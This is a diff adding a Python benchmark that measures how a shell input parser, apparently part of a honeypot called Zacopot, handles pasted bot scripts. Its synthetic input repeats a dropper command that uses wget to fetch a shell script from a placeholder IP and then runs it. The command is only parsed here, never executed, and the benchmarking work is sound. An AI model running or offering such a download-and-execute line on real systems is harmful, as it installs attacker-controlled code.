@@ -0,0 +1,76 @@
+"""Throughput of the shell input path for pasted bot scripts. \n
+Compares LineEditor against the previous bytes-concatenation loop. The old loop only looked at the end of
+the buffer, so a chunk holding several lines ran as one command; its "lines" shows how many commands it saw.
+Run from the Zacopot directory: python -m benchmarks.bench_line_discipline --size 65536"""
+import argparse
+import json
+import time
+
+from core.line_discipline import LineEditor
+
+
+def make_script(size: int) -> bytes:
+    line = b'cd /tmp; wget -q http://198.51.100.7/x.sh -O .x && chmod +x .x && ./.x\n'
+    return (line * (size // len(line) + 1))[:size]
+
+
+def legacy_feed(chunks: list[bytes]) -> tuple[int, int]:
+    """The old client_handler loop, returns (sends, lines)"""
+    buff = b''
+    sends = lines = 0
+    for data in chunks:
+        sends += 1      # echo
+        buff += data
+        if buff and buff[-1] in (8, 127):
+            buff = buff[:-1]
+            sends += 1
+            continue
+        if buff.endswith(b'\r') or buff.endswith(b'\n'):
+            buff.decode().strip()
+            buff = b''
+            sends += 1
+            lines += 1
+    return sends, lines
+
+
+def editor_feed(chunks: list[bytes]) -> tuple[int, int]:
+    editor = LineEditor(max_length=1 << 30)
+    sends = lines = 0
+    for data in chunks:
+        _, completed = editor.feed(data)
+        sends += 1      # echo and every reply in one send
+        lines += len(completed)
+    return sends, lines
+
+
+def measure(feed, chunks: list[bytes], rounds: int) -> tuple[float, int, int]:
+    start = time.perf_counter()
+    for _ in range(rounds):
+        sends, lines = feed(chunks)
+    return (time.perf_counter() - start) / rounds, sends, lines
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument('--size', type=int, default=64 * 1024, help='pasted script size in bytes')
+    parser.add_argument('--chunk', type=int, default=1024, help='bytes per recv')
+    parser.add_argument('--rounds', type=int, default=20)
+    args = parser.parse_args()
+
+    script = make_script(args.size)
+    chunks = [script[i:i + args.chunk] for i in range(0, len(script), args.chunk)]
+
+    result = {'script_bytes': len(script), 'chunk_bytes': args.chunk}
+    for name, feed in (('legacy', legacy_feed), ('line_editor', editor_feed)):
+        seconds, sends, lines = measure(feed, chunks, args.rounds)
+        result[name] = {
+            'ms': round(seconds * 1000, 3),
+            'mb_per_second': round(len(script) / seconds / 1e6, 1),
+            'sends': sends,
+            'lines': lines,
+        }
+    print(json.dumps(result, indent=2))
+
+
+if __name__ == '__main__':
+    main()